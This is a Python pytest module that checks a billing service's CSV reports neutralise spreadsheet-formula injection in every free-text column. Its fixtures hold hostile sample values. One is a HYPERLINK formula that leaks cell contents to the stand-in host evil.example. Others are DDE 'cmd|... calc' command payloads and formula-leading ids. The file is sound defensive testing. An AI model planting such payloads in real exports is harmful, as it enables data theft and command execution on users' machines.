"""CSV injection (ARCHITECTURE.md §3: cells that start with `= + - @`, tab or CR get a leading `'`).

Every piece of free text that reaches a report cell — partner names and org ids, customer org and
external ids, location, subscription, SKU, service name, description, user, subscriber and
workspace ids — is given a formula-like value and sent through the real pipeline: provisioning
events → ingestion → rating → the report worker → CSV in S3, for every report type."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import pytest

from chalicelib.adapters.jwt_tokens import DevKeyPair
from chalicelib.config import Settings
from chalicelib.domain.proration import SECONDS_PER_DAY, day_start_epoch
from chalicelib.domain.report_rows import columns_for
from chalicelib.domain.reports import ReportType
from tests.conftest import TODAY, ApiClient, Tokens
from tests.readers import object_text
from tests.security.conftest import BASE, moto_container

LEADS = ("=", "+", "-", "@", "\t", "\r")
FIRST_DAY = TODAY - timedelta(days=3)
LAST_DAY = TODAY - timedelta(days=1)

ROOT = "hostile-root-partner"  # the caller's org (plain: it is also in the token)
ROOT_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Acme")'
SUB = "@sub-partner-org"
SUB_NAME = "+SUM(1,2) Reseller"
CUSTOMERS = {  # org id → (partner, external id, internal)
    "-customer-org": (ROOT, "-2+3+cmd|' /C calc'!A0", False),
    "customer-plain": (ROOT, "@SUM(1+1)*cmd|' /C calc'!A0", False),
    "customer-tab": (ROOT, "\t=1+1", False),
    "customer-cr": (SUB, "\r=1+1", False),
    "customer-internal": (ROOT, "=internal()", True),
    "customer-benign": (SUB, "EXT-0001", False),
}
SKUS = {  # sku → (service name, description)
    "=SKU-EVIL": ("@WEBEX_CALLING", "-Webex Calling Professional"),
    "WXC-OK": ("WEBEX_CALLING", "+Plus Edition =1"),
}
SUBSCRIPTIONS = ["=SUB-1", "@SUB-2"]
LOCATIONS = ["=LOC-1", "+LOC-2", "-LOC-3", "@LOC-4", "\tLOC-5", "\rLOC-6"]


@dataclass(frozen=True)
class Assignment:
    customer: str
    location: str
    subscription: str
    sku: str
    subject: dict[str, str]
    start: int
    end: int | None  # None: still assigned


def _at(days_after_first: float) -> int:
    return day_start_epoch(FIRST_DAY) + int(days_after_first * SECONDS_PER_DAY)


def _user(user_id: str, subscriber_id: str) -> dict[str, str]:
    return {"type": "USER", "userId": user_id, "subscriberId": subscriber_id}


def _workspace(workspace_id: str) -> dict[str, str]:
    return {"type": "WORKSPACE", "workspaceId": workspace_id}


ASSIGNMENTS = [
    Assignment(
        "-customer-org", LOCATIONS[0], SUBSCRIPTIONS[0], "=SKU-EVIL", _user("-USER-1", "@SUBSCRIBER-1"), _at(-1), None
    ),
    Assignment(
        "customer-plain", LOCATIONS[1], SUBSCRIPTIONS[1], "WXC-OK", _user("=USER-2", "+SUBSCRIBER-2"), _at(1.5), None
    ),
    Assignment(
        "customer-tab", LOCATIONS[2], SUBSCRIPTIONS[0], "WXC-OK", _user("\tUSER-3", "\rSUBSCRIBER-3"), _at(0), _at(0.25)
    ),
    Assignment("customer-cr", LOCATIONS[3], SUBSCRIPTIONS[1], "=SKU-EVIL", _workspace("=WS-1"), _at(0.5), None),
    Assignment("customer-internal", LOCATIONS[4], SUBSCRIPTIONS[0], "WXC-OK", _workspace("\tWS-2"), _at(-1), None),
    Assignment(
        "customer-benign", LOCATIONS[5], SUBSCRIPTIONS[0], "=SKU-EVIL", _user("user-4", "SUBSCRIBER-4"), _at(2), None
    ),
]


def _iso(epoch: int) -> str:
    return datetime.fromtimestamp(epoch, tz=timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


def hostile_events() -> list[str]:
    directory_time = _iso(_at(-5))
    events: list[dict[str, Any]] = [
        {"eventType": "PARTNER_UPSERTED", "partnerOrgId": ROOT, "name": ROOT_NAME, "parentPartnerOrgId": None},
        {"eventType": "PARTNER_UPSERTED", "partnerOrgId": SUB, "name": SUB_NAME, "parentPartnerOrgId": ROOT},
    ]
    events += [
        {
            "eventType": "CUSTOMER_UPSERTED",
            "customerOrgId": org,
            "partnerOrgId": partner,
            "externalId": external,
            "internal": internal,
        }
        for org, (partner, external, internal) in CUSTOMERS.items()
    ]
    events += [
        {"eventType": "SKU_UPSERTED", "sku": sku, "serviceName": service, "description": description}
        for sku, (service, description) in SKUS.items()
    ]
    for event in events:
        event["occurredAt"] = directory_time
    for assignment in ASSIGNMENTS:
        common = {
            "partnerOrgId": CUSTOMERS[assignment.customer][0],
            "customerOrgId": assignment.customer,
            "locationId": assignment.location,
            "subscriptionId": assignment.subscription,
            "sku": assignment.sku,
            "subject": assignment.subject,
        }
        events.append({"eventType": "PACKAGE_ASSIGNED", "occurredAt": _iso(assignment.start), **common})
        if assignment.end is not None:
            events.append({"eventType": "PACKAGE_UNASSIGNED", "occurredAt": _iso(assignment.end), **common})
    return [json.dumps({"eventId": f"evt-csv-{number}", **event}) for number, event in enumerate(events)]


def expected_units(include_internal: bool) -> int:
    """Micro-units of the period (FIRST_DAY..LAST_DAY), from the assignments above."""
    period_start, period_end = _at(0), _at(3)
    total = 0
    for assignment in ASSIGNMENTS:
        if CUSTOMERS[assignment.customer][2] and not include_internal:
            continue
        start = max(assignment.start, period_start)
        end = min(assignment.end if assignment.end is not None else period_end, period_end)
        total += max(0, end - start) * 1_000_000 // SECONDS_PER_DAY  # whole/half/quarter days: exact
    return total


HOSTILE_VALUES = {
    ROOT_NAME,
    SUB,
    SUB_NAME,
    *(org for org in CUSTOMERS),
    *(external for _, external, _ in CUSTOMERS.values()),
    *SKUS,
    *(value for pair in SKUS.values() for value in pair),
    *SUBSCRIPTIONS,
    *LOCATIONS,
    *(value for assignment in ASSIGNMENTS for value in assignment.subject.values()),
}
HOSTILE_VALUES = {value for value in HOSTILE_VALUES if value.startswith(LEADS)}

# The reports made, by name: (create body extras, the report type, the partner the rows name).
REPORTS = {
    "PARTNER": ({"type": "PARTNER", "internal": True}, ReportType.PARTNER, ROOT_NAME),
    "CUSTOMER": ({"type": "CUSTOMER", "internal": True}, ReportType.CUSTOMER, ROOT_NAME),
    "USER": ({"type": "USER", "internal": True}, ReportType.USER, ROOT_NAME),
    "USER of the sub-partner": ({"type": "USER", "subPartnerOrgId": SUB}, ReportType.USER, SUB_NAME),
    "PARTNER of the sub-partner": ({"type": "PARTNER", "subPartnerOrgId": SUB}, ReportType.PARTNER, SUB_NAME),
}


@pytest.fixture(scope="module")
def report_files(dev_keys: DevKeyPair) -> Iterator[dict[str, str]]:
    """The CSV of every report in REPORTS, generated by the real worker from hostile events."""
    settings = Settings(stage="local", jwt_public_key_file=str(dev_keys.public_path))
    with moto_container(settings) as container:
        ingested = container.ingestion.ingest_lines(hostile_events(), source="csv-injection")
        assert ingested.rejected == 0, "the hostile (but valid) events must be accepted"
        container.rating.rate_through(LAST_DAY)
        tokens = Tokens(dev_keys, settings)
        client = ApiClient(tokens.mint(org_id=ROOT))
        ids = {}
        for name, (extras, _, _) in REPORTS.items():
            response = client.post(
                BASE, {"billingStartDate": FIRST_DAY.isoformat(), "billingEndDate": LAST_DAY.isoformat(), **extras}
            )
            assert response.status == 200, response.body
            ids[name] = response.json()["id"]
        container.workflow.join(60)
        files = {}
        for name, report_id in ids.items():
            detail = client.get(f"{BASE}/{report_id}").json()
            assert detail["status"] == "COMPLETED", detail
            files[name] = object_text(container, container.report_store.get(ROOT, report_id).s3_key)
        yield files


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("name", REPORTS)
def test_no_cell_can_start_a_formula(report_files: dict[str, str], name: str) -> None:
    _, report_type, partner_name = REPORTS[name]
    header, *rows = rows_of(report_files[name])
    assert header == list(columns_for(report_type))
    assert rows
    for row in rows:
        assert len(row) == len(header), row
        for column, cell in zip(header, row, strict=True):
            assert not cell.startswith(LEADS), (column, cell)
            if cell.startswith("'"):
                assert cell[1:] in HOSTILE_VALUES, (column, cell)  # quoted once, and only when needed
        cells = dict(zip(header, row, strict=True))
        assert cells["PARTNER_NAME"] == "'" + partner_name


@pytest.mark.parametrize("name", REPORTS)
def test_every_hostile_value_of_the_report_is_neutralised(report_files: dict[str, str], name: str) -> None:
    """Each hostile value that belongs in this report is there, as `'` + the value, in its column."""
    extras, report_type, _ = REPORTS[name]
    header, *rows = rows_of(report_files[name])
    by_column = {column: {row[index] for row in rows} for index, column in enumerate(header)}
    customers = {
        org
        for org, (partner, _, internal) in CUSTOMERS.items()
        if (extras.get("subPartnerOrgId") in (None, partner)) and (extras.get("internal") or not internal)
    }
    used = [assignment for assignment in ASSIGNMENTS if assignment.customer in customers]
    expected: dict[str, set[str]] = {
        "SKU": {assignment.sku for assignment in used},
        "SERVICE_NAME": {SKUS[assignment.sku][0] for assignment in used},
        "DESCRIPTION": {SKUS[assignment.sku][1] for assignment in used},
        "SUBSCRIPTION_ID": {assignment.subscription for assignment in used},
    }
    if report_type is not ReportType.PARTNER:
        expected |= {
            "CUSTOMER_ORG_ID": customers,
            "CUSTOMER_EXTERNAL_ID": {CUSTOMERS[org][1] for org in customers},
            "LOCATION_ID": {assignment.location for assignment in used},
        }
    if report_type is ReportType.USER:
        expected |= {
            "USER_ID": {assignment.subject.get("userId", "") for assignment in used},
            "SUBSCRIBER_ID": {assignment.subject.get("subscriberId", "") for assignment in used},
            "WORKSPACE_ID": {assignment.subject.get("workspaceId", "") for assignment in used},
        }
    if extras.get("subPartnerOrgId"):
        assert by_column["PARTNER_ORG_ID"] == {"'" + SUB}
    for column, raw_values in expected.items():
        assert by_column[column] == {"'" + value if value.startswith(LEADS) else value for value in raw_values}, column


@pytest.mark.parametrize("name", REPORTS)
def test_numbers_and_dates_are_not_mangled(report_files: dict[str, str], name: str) -> None:
    extras, _, _ = REPORTS[name]
    header, *rows = rows_of(report_files[name])
    quantities = [Decimal(row[header.index("QUANTITY")]) for row in rows]
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        assert re.fullmatch(r"(0|[1-9][0-9]*)(\.[0-9]*[1-9])?", cells["QUANTITY"]), cells["QUANTITY"]
        for column in ("CONSUMPTION_START_DATE", "CONSUMPTION_END_DATE"):
            day = datetime.strptime(cells[column], "%Y-%m-%d").date()
            assert FIRST_DAY <= day <= LAST_DAY
    assert all(quantity > 0 for quantity in quantities)
    if not extras.get("subPartnerOrgId"):
        assert sum(quantities) * 1_000_000 == expected_units(include_internal=True)


def test_the_report_types_reconcile_despite_hostile_keys(report_files: dict[str, str]) -> None:
    totals = {}
    for name in ("PARTNER", "CUSTOMER", "USER"):
        header, *rows = rows_of(report_files[name])
        totals[name] = sum(Decimal(row[header.index("QUANTITY")]) for row in rows)
    assert totals["PARTNER"] == totals["CUSTOMER"] == totals["USER"]


def test_a_neutralised_cr_stays_inside_its_quoted_cell(report_files: dict[str, str]) -> None:
    """RFC 4180 with CRLF; a CR-led value is quoted, so it cannot split a row."""
    text = report_files["USER"]
    assert text.endswith("\r\n")
    assert "\"'\r" in text  # the CR-led values, quoted
